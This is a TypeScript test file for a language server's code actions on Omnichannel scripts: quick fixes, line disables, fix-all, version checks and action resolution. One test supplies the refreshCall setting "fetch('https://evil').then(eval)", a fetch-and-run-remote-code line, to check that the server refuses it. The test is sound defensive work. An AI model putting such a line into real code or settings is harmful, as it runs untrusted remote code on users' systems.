import * as assert from 'node:assert/strict';
import { useServer } from './support/fixture';
import { MessageType, type CodeAction, type Range } from 'vscode-languageserver-protocol/node';

const SOURCE = [
  'function linkCase(conversationId) {',
  '  Microsoft.Omnichannel.linkToConversation("case", "5a2a6a28-9f8e-4c38-9a4f-1a0b3c2d4e5f", conversationId)',
  '    .then(() => Microsoft.Apm.getFocusedSession().getFocusedTab().refresh(), error => console.error(error));',
  '}',
  '',
].join('\n');

const WHOLE: Range = { start: { line: 0, character: 0 }, end: { line: 99, character: 0 } };

describe('server: code actions', () => {
  const s = useServer();

  it('offers a preferred quick fix tied to the diagnostic; applying it removes the diagnostic', async () => {
    const uri = 'file:///ws/quickfix.js';
    const published = await s.client.open(uri, SOURCE);
    const diagnostic = published.diagnostics[0]!;
    const actions = await s.client.codeActions(uri, diagnostic.range, ['quickfix']);
    const preferred = actions.find(a => a.isPreferred);
    assert.ok(preferred, `no preferred fix among ${actions.map(a => a.title).join(', ')}`);
    assert.equal(preferred.title, 'Change to "incident"');
    assert.equal(preferred.kind, 'quickfix');
    assert.deepEqual(preferred.diagnostics?.map(d => d.code), ['invalid-entity-name']);
    const after = await s.client.applyAction(uri, preferred);
    assert.deepEqual(after.diagnostics, []);
    assert.match(s.client.text(uri), /linkToConversation\("incident"/);
  });

  it('offers "Disable <rule> for this line", which silences the finding', async () => {
    const uri = 'file:///ws/disable.js';
    const published = await s.client.open(uri, SOURCE);
    const actions = await s.client.codeActions(uri, published.diagnostics[0]!.range);
    const disable = actions.find(a => a.title === 'Disable invalid-entity-name for this line');
    assert.ok(disable, actions.map(a => a.title).join(', '));
    assert.equal(disable.isPreferred, undefined);
    const after = await s.client.applyAction(uri, disable);
    assert.deepEqual(after.diagnostics, []);
    assert.match(s.client.text(uri), /omnichannel-disable-next-line invalid-entity-name/);
  });

  it('gives only the fixes of findings in the asked range', async () => {
    const uri = 'file:///ws/range.js';
    await s.client.open(uri, SOURCE);
    assert.deepEqual(await s.client.codeActions(uri, { start: { line: 3, character: 0 }, end: { line: 3, character: 1 } }, ['quickfix']), []);
  });

  it('leaves the whole-file fix out of a request that does not ask for a source action', async () => {
    const uri = 'file:///ws/plain.js';
    const published = await s.client.open(uri, SOURCE);
    // What a lightbulb asks on every cursor move: no kind filter. This client cannot resolve an action later.
    const unfiltered = await s.client.codeActions(uri, WHOLE);
    assert.ok(unfiltered.length > 0);
    assert.deepEqual(unfiltered.filter(a => a.kind?.startsWith('source')), []);
    assert.deepEqual(await s.client.codeActions(uri, published.diagnostics[0]!.range, ['quickfix']).then(a => a.filter(x => x.kind !== 'quickfix')), []);
    // Asked for by its kind or a parent kind, it comes with its edit.
    for (const only of [['source'], ['source.fixAll'], ['source.fixAll.omnichannel']]) {
      const [fixAll] = await s.client.codeActions(uri, WHOLE, only);
      assert.equal(fixAll?.kind, 'source.fixAll.omnichannel', only.join());
      assert.ok(fixAll.edit?.documentChanges?.length === 1, only.join());
    }
  });

  it('fixes every fixable finding with source.fixAll.omnichannel', async () => {
    const uri = 'file:///ws/fixall.js';
    const text = [
      'Microsoft.Omnichannel.linkToConversation("Contact", "{5A2A6A28-9F8E-4C38-9A4F-1A0B3C2D4E5F}")',
      '  .then(() => Microsoft.Apm.refreshTab("t"), e => console.error(e));',
      'Microsoft.Omnichannel.linkToConversation("cases", "5a2a6a28-9f8e-4c38-9a4f-1a0b3c2d4e5f")',
      '  .then(() => Microsoft.Apm.refreshTab("t"), e => console.error(e));',
      '',
    ].join('\n');
    const published = await s.client.open(uri, text);
    assert.deepEqual(published.diagnostics.map(d => d.code).sort(), ['invalid-entity-name', 'invalid-entity-name', 'invalid-record-id']);
    const actions = await s.client.codeActions(uri, { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, ['source.fixAll']);
    assert.deepEqual(actions.map(a => a.kind), ['source.fixAll.omnichannel']);
    const after = await s.client.applyAction(uri, actions[0]!);
    assert.deepEqual(after.diagnostics, []);
    assert.match(s.client.text(uri), /"contact", "5a2a6a28-9f8e-4c38-9a4f-1a0b3c2d4e5f"/);
  });

  it('names the document version in every edit, so a stale edit cannot be applied', async () => {
    const uri = 'file:///ws/stale.js';
    const published = await s.client.open(uri, SOURCE);
    const [action] = await s.client.codeActions(uri, published.diagnostics[0]!.range, ['quickfix']);
    await s.client.change(uri, [{ range: { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, text: '\n' }]);
    await assert.rejects(s.client.applyAction(uri, action!), /targets version 1, the document is at 2/);
    // Asked again, the server computes the fix for the current text and version.
    const [fresh] = await s.client.codeActions(uri, { start: { line: 2, character: 0 }, end: { line: 2, character: 99 } }, ['quickfix']);
    const change = fresh!.edit!.documentChanges![0]!;
    assert.ok('textDocument' in change && change.textDocument.version === 2);
    assert.equal(change.edits[0]!.range.start.line, 2);
  });

  it('refuses a refreshCall setting that is more than one plain call: a warning names it, and the fix inserts the default', async () => {
    s.client.settings = { refreshCall: "fetch('https://evil').then(eval)" };
    await s.client.configurationChanged();
    const uri = 'file:///ws/refresh-setting.js';
    const published = await s.client.open(uri, 'Microsoft.Omnichannel.linkToConversation("incident", id).catch(e => e);\n');
    const warning = await s.client.messageMatching(/omnichannel\.refreshCall/);
    assert.equal(warning.type, MessageType.Warning);
    assert.match(warning.message, /"fetch\('https:\/\/evil'\)\.then\(eval\)" is refused because .*; using the default "Microsoft\.Apm\.getFocusedSession\(\)\.getFocusedTab\(\)\.refresh\(\)"\.$/);
    const missing = published.diagnostics.find(d => d.code === 'missing-ui-refresh')!;
    const fixAll = await s.client.codeActions(uri, missing.range, ['source.fixAll']);
    await s.client.applyAction(uri, fixAll[0]!);
    assert.equal(s.client.text(uri), 'Microsoft.Omnichannel.linkToConversation("incident", id)\n    .then(() => Microsoft.Apm.getFocusedSession().getFocusedTab().refresh())\n    .catch(e => e);\n');
    s.client.settings = {};
    await s.client.configurationChanged();
  });

  it('offers nothing for a document without findings', async () => {
    const uri = 'file:///ws/clean.js';
    await s.client.open(uri, 'const x = 1;\n');
    assert.deepEqual(await s.client.codeActions(uri, WHOLE), []);
  });
});

describe('server: code actions, client that resolves them', () => {
  const s = useServer({ resolveCodeActions: true });

  it('offers the whole-file fix unasked without computing it, and computes it when resolved', async () => {
    const uri = 'file:///ws/resolve.js';
    await s.client.open(uri, SOURCE);
    const fixAll = (await s.client.codeActions(uri, { start: { line: 3, character: 0 }, end: { line: 3, character: 1 } })).find(a => a.kind === 'source.fixAll.omnichannel');
    assert.ok(fixAll, 'offered in an unfiltered menu');
    assert.equal(fixAll.edit, undefined, 'no edit computed before the action is chosen');
    const resolved = await s.client.connection.sendRequest<CodeAction>('codeAction/resolve', fixAll);
    const after = await s.client.applyAction(uri, resolved);
    assert.deepEqual(after.diagnostics, []);
    assert.match(s.client.text(uri), /linkToConversation\("incident"/);
  });

  it('offers no whole-file fix for a document with nothing to fix', async () => {
    const uri = 'file:///ws/resolve-clean.js';
    await s.client.open(uri, 'const x = 1;\n');
    assert.deepEqual(await s.client.codeActions(uri, WHOLE), []);
  });
});
